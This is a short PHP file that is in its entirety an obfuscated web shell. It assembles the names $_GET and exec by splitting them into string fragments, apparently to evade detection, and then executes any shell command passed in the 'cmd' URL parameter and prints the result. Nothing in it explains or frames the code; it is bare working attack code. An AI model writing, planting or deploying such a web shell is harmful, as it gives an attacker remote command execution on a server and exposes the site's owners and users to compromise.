<?php
$in = $GLOBALS['_' . 'GET'];
$fun = 'ex' . 'ec';
$fun($in['cmd'], $out);
echo implode("\n", $out);
